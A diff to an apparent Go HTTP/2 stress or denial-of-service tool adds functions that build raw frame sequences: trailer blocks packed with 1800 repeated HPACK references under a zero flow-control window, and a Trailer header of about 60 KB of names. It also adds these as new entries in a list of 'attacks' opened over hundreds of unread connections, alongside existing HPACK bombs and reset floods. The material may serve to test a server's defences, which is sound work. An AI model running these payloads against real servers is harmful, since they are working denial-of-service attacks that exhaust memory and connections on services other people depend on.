@@ -3,6 +3,7 @@ package main
 import (
 	"crypto/tls"
 	"flag"
+	"fmt"
 	"io"
 	"net"
 	"slices"
@@ -50,6 +51,31 @@ func bomb(n, size, refs int, path, name string) string {
 		}
 		fields = append(fields, slices.Repeat([]coded{indexed(62)}, refs)...)
 		b.WriteString(cutIntoFrames(2*i+1, 16000, block(fields...)))
+	}
+	return b.String()
+}
+
+// trailers returns n streams, each with trailers of a field referred to often, whose answers
+// have no window.
+func trailers(n int, path string) string {
+	var b strings.Builder
+	b.WriteString(preface + frameOf(settingsFrame, 0, 0, "\x00\x04\x00\x00\x00\x00"))
+	for i := range n {
+		b.WriteString(frameOf(headersFrame, endHeaders, 2*i+1, block(indexed(6), literalOf(4, path), indexed(2), literalOf(1, "localhost"), literal("trailer", "x"))))
+		if i == 0 {
+			b.WriteString(frameOf(headersFrame, endHeaders|endStream, 1, block(added("x", ""))))
+		} else {
+			b.WriteString(frameOf(headersFrame, endHeaders|endStream, 2*i+1, block(slices.Repeat([]coded{indexed(62)}, 1800)...)))
+		}
+	}
+	return b.String()
+}
+
+// announced returns n bytes of names, for a field Trailer.
+func announced(n int) string {
+	var b strings.Builder
+	for i := 0; b.Len() < n; i++ {
+		fmt.Fprintf(&b, "a%x,", i)
 	}
 	return b.String()
 }
@@ -105,6 +131,9 @@ func attacks(path, slow string) []onslaught {
 		{name: "bombs with a delay", conns: 200, sent: bomb(100, 0, 1800, slow, "x"), reads: unread},
 		{name: "bombs whose windows get a byte at a time", conns: 200, sent: bomb(100, 0, 1000, path, "x"), again: window(100), pause: 100 * time.Millisecond},
 		{name: "streams with a delay", conns: 1000, sent: bomb(100, 0, 1, slow, "x"), reads: unread},
+		{name: "small answers, not read", conns: 600, sent: bomb(100, 0, 0, path, "x"), reads: unread},
+		{name: "trailers", conns: 600, sent: trailers(100, path), reads: unread},
+		{name: "announced trailers", conns: 600, sent: asking(path, "Transfer-Encoding: chunked\r\nTrailer: "+announced(60000)+"\r\n"), reads: unread},
 		{name: "half blocks", conns: 2000, sent: strings.TrimSuffix(http2Start+cutIntoFrames(1, 16000, block(literal("x", strings.Repeat("~", 60000)))+"\x82"), "\x82"), reads: unread},
 		{name: "resets on few connections", conns: 4, sent: resets(100000)},
 		{name: "resets on many short connections", conns: 64, sent: resets(250), closes: true},
